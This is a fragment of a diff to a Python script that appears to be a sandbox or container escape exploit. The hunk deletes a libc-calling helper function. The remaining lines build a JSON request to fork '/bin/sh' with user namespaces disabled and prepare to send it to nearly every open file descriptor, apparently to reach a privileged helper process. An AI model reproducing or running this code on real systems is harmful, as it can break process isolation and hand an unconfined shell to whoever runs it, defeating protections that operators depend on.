@@ -15,12 +15,6 @@ import socket
 import stat
 import struct
 
-
-def call(name, *arguments):
-    if getattr(libc, name)(*arguments) < 0:
-        raise OSError(ctypes.get_errno(), "")
-
-
 # %% on every descriptor that could be it
 ORDER = json.dumps({"make": 1, "user_namespace": False, "cmd": "fork", "argv": ["/bin/sh"]}).encode()
 for descriptor in (0, 3, *range(5, 1024)):
